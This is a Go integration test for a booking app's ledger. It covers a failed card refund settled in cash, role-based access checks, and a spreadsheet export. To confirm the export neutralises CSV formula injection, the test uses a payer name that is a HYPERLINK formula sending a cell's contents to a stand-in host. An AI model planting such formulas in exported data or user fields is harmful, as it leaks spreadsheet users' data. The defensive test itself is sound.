package main

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"
)

// evil is a payer's name that a spreadsheet would take for a formula (CWE-1236).
const evil = `=HYPERLINK("https://x.example.test?"&A1,"free bacon")`

// booked is a booking made and paid on the provider's page by its notice; it returns its
// number and its private address under /api/v1.
func (p *payTown) booked(t *testing.T, h *house, name string, seats int) (number, at string) {
	t.Helper()
	v := h.visitor(t)
	people := strings.Repeat(`,{"seat":"slab"}`, seats-1)
	out := v.ask(http.MethodPost, "/api/v1/classes/B5/bookings", `{"name":`+strconv.Quote(name)+`,"email":"p@post.example.test","people":[{"payer":true,"seat":"slab"}`+people+`]}`, http.StatusOK)
	at = "/api/v1/my-booking/" + dig(out, "link")[strings.LastIndex(dig(out, "link"), "/")+1:]
	begun := v.ask(http.MethodPost, at+"/checkout", `{}`, http.StatusOK)
	id := dig(begun, "url")[strings.LastIndex(dig(begun, "url"), "/")+1:]
	p.set(id, "paid")
	if got := p.tell(v, "checkout.session.completed", id); got != http.StatusNoContent {
		t.Fatalf("paid: %d", got)
	}
	return dig(out, "number"), at
}

// account is what an account stands at in the books' JSON.
func account(ledger map[string]any, name string) string {
	for _, g := range list(ledger["groups"]) {
		for _, a := range list(g.(map[string]any)["accounts"]) {
			if dig(a, "account") == name {
				return dig(a, "amount")
			}
		}
	}
	return "no account " + name
}

// A party with a formula for a name pays $210.00 online for two seats of B5 and lets both go
// ten days before, one for money, one for credit (R4: half or full): $52.50 back, $52.50
// kept, $105.00 credit. The card is closed: the owner sees the refund that did not go
// through, tries again, gives cash instead. By hand: online 210.00 − 52.50 = 157.50 = 105.00
// + 52.50; after the cash, online 210.00 and the drawer −52.50.
func TestStoryBooksAndARefundThatFails(t *testing.T) {
	eachDatabase(t, func(t *testing.T, database string) {
		town := openPayTown(t)
		h := shopWithB5(t, database, town.provider())
		number, mine := town.booked(t, h, evil, 2)
		town.booked(t, h, "Nerys D.", 1)
		town.mu.Lock()
		town.shut = true
		town.mu.Unlock()
		h.goTo("2026-10-28 10:00")
		odile, tobias, jun, guest := h.signedIn(t, "odile"), h.signedIn(t, "tobias"), h.signedIn(t, "jun"), h.visitor(t)
		quote := guest.ask(http.MethodGet, mine+"/leave", "", http.StatusOK)
		leave := fmt.Sprintf(`{"seats":[{"seat":%s,"choice":"money"},{"seat":%s,"choice":"credit"}]}`, dig(quote, "seats", 0, "seat"), dig(quote, "seats", 1, "seat"))
		guest.ask(http.MethodPost, mine+"/leave", leave, http.StatusOK)

		var id string
		eventually(t, "the provider's no", func() bool {
			open := odile.ask(http.MethodGet, "/api/v1/refunds", "", http.StatusOK)
			id = dig(open, "refunds", 0, "id")
			return dig(open, "refunds", 0, "state") == "failed"
		})
		odile.reads("/owner/ledger", "On its way back to people", evil+" : $52.50 did not go through", "expired_or_canceled_card")
		books := odile.ask(http.MethodGet, "/api/v1/ledger", "", http.StatusOK)
		for name, want := range map[string]string{"online checkout": "$262.50", "owed to bookings": "$105.00", "owed as credit": "$105.00", "kept of seats let go": "$52.50", "cash": "$0.00"} {
			if got := account(books, name); got != want {
				t.Errorf("%s stands at %s, want %s", name, got, want)
			}
		}

		// Who may look, and who may settle.
		for v, status := range map[*visitor]int{tobias: http.StatusForbidden, jun: http.StatusForbidden} {
			for _, path := range []string{"/owner/ledger", "/owner/ledger.csv", "/api/v1/ledger", "/api/v1/refunds"} {
				if res, _ := v.get(path); res.StatusCode != status {
					t.Errorf("GET %s: %d, want %d", path, res.StatusCode, status)
				}
			}
			if res, _ := v.post("/owner/refunds/"+id, url.Values{"how": {"cash"}}); res.StatusCode != status {
				t.Errorf("a refund settled by the page: %d, want %d", res.StatusCode, status)
			}
			v.ask(http.MethodPost, "/api/v1/refunds/"+id, `{"how":"cash"}`, status)
		}
		guest.ask(http.MethodGet, "/api/v1/ledger", "", http.StatusUnauthorized)
		guest.ask(http.MethodPost, "/api/v1/refunds/"+id, `{"how":"cash"}`, http.StatusUnauthorized)

		// What cannot be is refused in words and changes nothing.
		if res, body := odile.post("/owner/refunds/"+id, url.Values{"how": {"voucher"}}); res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(said(body), "Choose how it went back: cash, card or transfer.") {
			t.Errorf("given back as a voucher: %d %s", res.StatusCode, said(body))
		}
		odile.ask(http.MethodPost, "/api/v1/refunds/"+id, `{"how":"voucher"}`, http.StatusUnprocessableEntity)
		odile.ask(http.MethodPost, "/api/v1/refunds/77", `{"how":"cash"}`, http.StatusNotFound)
		for _, nobody := range []string{"77", "x"} {
			if res, _ := odile.post("/owner/refunds/"+nobody, url.Values{"how": {"cash"}}); res.StatusCode != http.StatusNotFound {
				t.Errorf("refund %s: %d", nobody, res.StatusCode)
			}
		}
		// Tried again in vain, and then given in cash, once.
		odile.ask(http.MethodPost, "/api/v1/refunds/"+id, `{"how":"again"}`, http.StatusOK)
		eventually(t, "the provider's second no", func() bool {
			return dig(odile.ask(http.MethodGet, "/api/v1/refunds", "", http.StatusOK), "refunds", 0, "state") == "failed"
		})
		if res, body := odile.post("/owner/refunds/"+id, url.Values{"how": {"cash"}}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("given in cash: %d %s", res.StatusCode, said(body))
		}
		if text := odile.reads("/owner/ledger"); strings.Contains(text, "On its way back") {
			t.Errorf("settled, and still open: %s", text)
		}
		if res, body := odile.post("/owner/refunds/"+id, url.Values{"how": {"cash"}}); res.StatusCode != http.StatusConflict || !strings.Contains(said(body), "This refund has not failed, or somebody else has settled it.") {
			t.Errorf("given twice: %d %s", res.StatusCode, said(body))
		}
		odile.ask(http.MethodPost, "/api/v1/refunds/"+id, `{"how":"card"}`, http.StatusConflict)
		books = odile.ask(http.MethodGet, "/api/v1/ledger", "", http.StatusOK)
		for name, want := range map[string]string{"online checkout": "$315.00", "cash": "-$52.50", "owed as credit": "$105.00", "kept of seats let go": "$52.50"} {
			if got := account(books, name); got != want {
				t.Errorf("with the cash given, %s stands at %s, want %s", name, got, want)
			}
		}

		// The booking's own entries, for staff.
		tobias.reads("/staff/bookings/"+number+"/ledger", "K0"+number+": books", "Wed Oct 28", "given back another way", "cash -$52.50", "online checkout $210.00", "kept of seats let go")
		own := tobias.ask(http.MethodGet, "/api/v1/bookings/"+number+"/ledger", "", http.StatusOK)
		if len(list(own["entries"])) < 4 {
			t.Errorf("the booking's entries: %v", own)
		}
		for _, e := range list(own["entries"]) {
			if dig(e, "booking") != number {
				t.Errorf("another's entry: %v", e)
			}
		}
		for v, status := range map[*visitor]int{jun: http.StatusForbidden, guest: http.StatusSeeOther} {
			if res, _ := v.get("/staff/bookings/" + number + "/ledger"); res.StatusCode != status {
				t.Errorf("a booking's books: %d, want %d", res.StatusCode, status)
			}
		}
		if res, _ := tobias.get("/staff/bookings/77/ledger"); res.StatusCode != http.StatusNotFound {
			t.Errorf("the books of no booking: %d", res.StatusCode)
		}
		booksFile(t, odile, books)
	})
}

// booksFile reads the file for spreadsheets back (RFC 4180): every entry's lines sum to
// nothing, so debits are credits, and nothing typed by anybody begins a formula.
func booksFile(t *testing.T, odile *visitor, books map[string]any) {
	t.Helper()
	res, body := odile.get("/owner/ledger.csv")
	if res.StatusCode != http.StatusOK || res.Header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || res.Header.Get("Cache-Control") != "no-store" ||
		res.Header.Get("Content-Disposition") != `attachment; filename="books-2026-10-15-2026-10-28.csv"` {
		t.Errorf("the file: %d %v", res.StatusCode, res.Header)
	}
	if strings.Count(body, "\n") != strings.Count(body, "\r\n") {
		t.Error("a line does not end as RFC 4180 asks")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], " "); got != "entry day time account whose amount text by booking" {
		t.Errorf("columns: %s", got)
	}
	debit, credit, byEntry, harmed := 0, 0, map[string]int{}, 0
	for _, r := range rows[1:] {
		whole, cents, ok := strings.Cut(r[5], ".")
		n, err := strconv.Atoi(whole + cents)
		if !ok || len(cents) != 2 || err != nil {
			t.Errorf("%q is no amount", r[5])
		}
		byEntry[r[0]] += n
		if n > 0 {
			debit += n
		} else {
			credit -= n
		}
		for i, cell := range r {
			if i != 5 && cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet runs %q", cell)
			}
			if cell == "'"+evil {
				harmed++
			}
		}
		if _, err := time.Parse(time.DateOnly, r[1]); err != nil {
			t.Errorf("%q is no day", r[1])
		}
	}
	if debit == 0 || debit != credit {
		t.Errorf("debits %d, credits %d", debit, credit)
	}
	for e, n := range byEntry {
		if n != 0 {
			t.Errorf("entry %s is out by %d", e, n)
		}
	}
	if harmed == 0 {
		t.Error("the payer with a formula for a name stands nowhere in the file: the check has nothing to look at")
	}
	lines := 0
	for _, e := range list(books["entries"]) {
		lines += len(list(e.(map[string]any)["lines"]))
	}
	if lines != len(rows)-1 {
		t.Errorf("%d lines in the file, %d by the API for the same days", len(rows)-1, lines)
	}

	// Days that cannot be.
	for query, says := range map[string]string{"from=yesterday": "Write the day as 2026-11-25.", "from=2026-10-20&to=2026-10-19": "The first day lies after the last.", "from=2025-01-01&to=2026-10-28": "At most 400 days at once"} {
		for _, path := range []string{"/owner/ledger?", "/owner/ledger.csv?"} {
			res, page := odile.get(path + query)
			if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(said(page), says) || !strings.Contains(page, `value="`+strings.TrimPrefix(strings.Split(query, "&")[0], "from=")+`"`) {
				t.Errorf("%s%s: %d, want %q and the day as typed", path, query, res.StatusCode, says)
			}
		}
		res, text := odile.get("/api/v1/ledger?" + query)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/problem+json") {
			t.Errorf("/api/v1/ledger?%s: %d %s", query, res.StatusCode, text)
		}
	}
	if text := odile.reads("/owner/ledger?from=2026-09-01&to=2026-09-02", "Nothing was written on these days."); strings.Contains(text, "HYPERLINK") {
		t.Errorf("entries of other days: %s", text)
	}
}
